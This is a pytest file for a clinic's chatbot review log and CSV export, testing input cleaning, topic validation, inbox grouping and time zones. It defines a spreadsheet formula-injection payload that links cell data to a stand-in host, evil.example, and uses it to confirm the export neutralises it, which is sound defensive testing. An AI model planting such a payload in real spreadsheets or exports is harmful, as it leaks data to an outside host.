"""What a patient sends cannot break the review log or its export: control
characters are dropped, the topic column holds only the content's topic ids,
every exported cell is guarded against formulas, and "answered" means a topic's
answer was sent (staff/review/cells.py, follower.py, export.py)."""

import csv
import datetime as dt
import io

import pytest

from staff.accounts import accounts, roles
from staff.review import cells, conversations
from staff.review.export import COLUMNS, write_csv
from staff.review.follower import Follower
from staff.review.models import Conversation, Message, Outcome
from tests.staff.tracker_events import Tracker

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def tracker(tmp_path):
    return Tracker(tmp_path / "tracker.db")


@pytest.fixture
def nurse(client):
    client.force_login(accounts.add("nina", roles.NURSE, "a-long-passphrase-9"))
    return client


def patient(text_part: str) -> Message:
    return Message.objects.get(sender=Message.PATIENT, text__contains=text_part)


def exported() -> list[list[str]]:
    out = io.StringIO()
    write_csv(out)
    return list(csv.reader(io.StringIO(out.getvalue())))


def test_control_characters_are_dropped_where_text_enters_the_log(tracker):
    tracker.turn("a", "hello\x00world\x07, line one\r\nline\ttwo\x1b[31m", "action_not_sure",
                 "Sorry\x00.", intent="nlu_fallback")  # fmt: skip
    Follower(tracker.path).catch_up()
    assert patient("hello").text == "helloworld, line one\nline\ttwo[31m"
    assert Message.objects.get(sender=Message.ASSISTANT).text == "Sorry."


def test_a_nul_byte_from_a_patient_does_not_break_the_export(nurse, tracker):
    tracker.turn("a", "hello\x00world", "action_not_sure", "Sorry.", intent="nlu_fallback")
    Follower(tracker.path).catch_up()
    # A row stored before the log cleaned its input.
    now = dt.datetime.now(dt.timezone.utc)
    Message.objects.create(
        event_id=10**9, time=now, conversation="c", sender=Message.PATIENT, text="old\x00row\x01"
    )
    response = nurse.get("/export.csv")
    assert response.status_code == 200
    body = response.content.decode()
    assert "helloworld" in body and "oldrow" in body and "\x00" not in body


def test_every_exported_column_is_guarded_against_formulas():
    Message.objects.create(
        event_id=1, time=dt.datetime.now(dt.timezone.utc), conversation="+c",
        sender=Message.PATIENT, text=FORMULA, topic=FORMULA, intent="faq",
        outcome="@x", content_version="\tv", confidence=-0.5,
    )  # fmt: skip
    Conversation.objects.create(name="+c", status="-1", last_time=dt.datetime.now(dt.timezone.utc))
    header, row = exported()
    assert header == list(COLUMNS)
    assert all(not cell or cell[0] not in "=+-@\t\r" for cell in row), row
    assert row[3] == row[5] == "'" + FORMULA and row[1] == "'+c" and row[6] == "'-0.50"
    assert row[8] == "'-1"


def test_the_topic_column_holds_only_the_contents_topic_ids(tracker):
    for n, typed in enumerate([FORMULA, "jane.doe@example.org", "555-555-0100", "no_such_topic"]):
        tracker.button(f"s{n}", typed)
        tracker.action(f"s{n}", "action_answer_faq")
        tracker.bot(f"s{n}", "That topic is not available.", answered_topic="")
    tracker.button("ok", "refills")
    tracker.action("ok", "action_answer_faq")
    tracker.bot("ok", "Refills are every 2 weeks.", answered_topic="refills")
    Follower(tracker.path).catch_up()  # the content's topics, as in the workspace
    got = [(m.topic, m.outcome) for m in Message.objects.filter(sender=Message.PATIENT)
           .order_by("event_id")]  # fmt: skip
    assert got == [("", Outcome.NOT_UNDERSTOOD)] * 4 + [("refills", Outcome.ANSWERED)]


def test_the_outcome_comes_from_what_the_answer_sent_not_the_payload(tracker):
    # A topic the model or a button named, which the content no longer has.
    tracker.button("a", "retired_topic")
    tracker.action("a", "action_answer_faq")
    tracker.bot("a", "That topic is not available.", answered_topic="")
    # The model's topic and the one answered differ: the answered one is kept.
    tracker.user("b", "how often are the refills", topic="refills")
    tracker.action("b", "action_answer_faq")
    tracker.bot("b", "The stay is about 3 days.", answered_topic="hospital_stay")
    Follower(tracker.path, topic_ids=lambda: {"refills", "hospital_stay"}).catch_up()
    first, second = Message.objects.filter(sender=Message.PATIENT).order_by("event_id")
    assert (first.topic, first.outcome) == ("", Outcome.NOT_UNDERSTOOD)
    assert (second.topic, second.outcome) == ("hospital_stay", Outcome.ANSWERED)


def test_without_content_only_what_looks_like_a_topic_id_is_kept():
    assert cells.known_topic("refills", None) == "refills"
    assert cells.known_topic("refills", {"hospital_stay"}) == ""
    for bad in [FORMULA, "a@b.org", "refills\n", "Refills", ""]:
        assert cells.known_topic(bad, None) == ""


def test_a_flood_of_urgent_messages_from_one_chat_takes_one_row_of_the_inbox(nurse):
    start = dt.datetime(2025, 3, 9, 12, tzinfo=dt.timezone.utc)

    def urgent(n: int, conversation: str) -> None:
        Message.objects.create(
            event_id=10_000 + n + (500 if conversation == "other" else 0),
            time=start + dt.timedelta(seconds=n),
            conversation=conversation,
            sender=Message.PATIENT,
            text=f"chest pain {conversation} {n}",
            outcome=Outcome.URGENT,
            priority=0,
        )

    for n in range(41):
        urgent(n, "flood")
    urgent(1, "other")  # another patient's, older than the whole flood
    conversations.refresh(["flood", "other"])
    rows = list(nurse.get("/").context["page"])
    assert [(c.name, c.count, c.lead.text) for c in rows] == [
        ("flood", 41, "chest pain flood 40"),
        ("other", 1, "chest pain other 1"),
    ]
    # Each message is still there, on the conversation's page and in the export.
    assert len([r for r in exported() if "chest pain flood" in " ".join(r)]) == 41


@pytest.mark.parametrize(
    "stored, shown",
    [
        (dt.datetime(2025, 1, 15, 23, 0, tzinfo=dt.timezone.utc), "2025-01-15 18:00"),  # EST
        (dt.datetime(2025, 7, 15, 23, 0, tzinfo=dt.timezone.utc), "2025-07-15 19:00"),  # EDT
        (dt.datetime(2025, 3, 10, 3, 30, tzinfo=dt.timezone.utc), "2025-03-09 23:30"),
    ],
)
def test_times_are_shown_on_the_clinic_s_clock_with_its_zone_named(nurse, stored, shown):
    from bot import paths
    from bot.content import loader

    assert loader.load(paths.CONTENT_DIR).clinic["timezone"] == "America/New_York"
    Message.objects.create(
        event_id=20_000, time=stored, conversation="c0ffee0009",
        sender=Message.PATIENT, text="when is my refill", outcome=Outcome.ANSWERED,
    )  # fmt: skip
    conversations.refresh(["c0ffee0009"])
    page = nurse.get("/").content.decode()
    assert "Latest message (America/New_York)" in page and "UTC" not in page
    assert shown in page
    assert nurse.get("/api/inbox/?after=0").json()["conversations"][0]["time"] == shown


def test_the_chat_s_opening_is_not_a_patient_message_and_a_tap_shows_its_words(tracker):
    tracker.user("a", "/greet", intent="greet")
    tracker.bot("a", "Hello! I am an automated helper.", buttons=[
        {"title": "What the pump is and how it works", "payload": '/faq{"topic": "what_is_pump"}'},
    ])  # fmt: skip
    tracker.button("a", "what_is_pump")
    tracker.bot("a", "The pump is ...", answered_topic="what_is_pump")
    tracker.user("a", '/greet{"language": "es"}', intent="greet")
    tracker.bot("a", "¡Hola! Soy un asistente automático.")
    # "End chat and forget this device" sends a payload of its own, unseen.
    tracker.user("a", "/forget_device", intent="forget_device")
    Follower(tracker.path).catch_up()
    rows = list(Message.objects.filter(sender=Message.PATIENT))
    assert [m.text for m in rows] == ["What the pump is and how it works"]
    assert rows[0].topic == "what_is_pump"
    # A tap logged after a restart, with no buttons seen: the topic's own title.
    tracker.button("b", "refills")
    Follower(tracker.path).catch_up()
    assert Message.objects.get(sender=Message.PATIENT, topic="refills").text == "Pump refills"
